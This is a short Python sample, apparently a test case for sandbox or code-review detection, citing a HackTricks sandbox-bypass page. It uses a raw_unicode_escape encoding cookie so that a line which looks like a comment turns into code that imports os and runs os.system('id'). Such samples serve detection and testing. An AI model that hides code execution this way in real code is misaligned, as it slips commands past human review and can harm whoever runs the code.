# -*- coding: raw_unicode_escape -*-
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes ("you can also bypass it using other encodings, e.g. raw_unicode_escape and unicode_escape")
# Family: source-encoding
# What: raw_unicode_escape cookie: an escaped u000a inside a comment becomes a newline that runs import os
price = 100
#\u000aimport os\u000aos.system("id")
print(price)
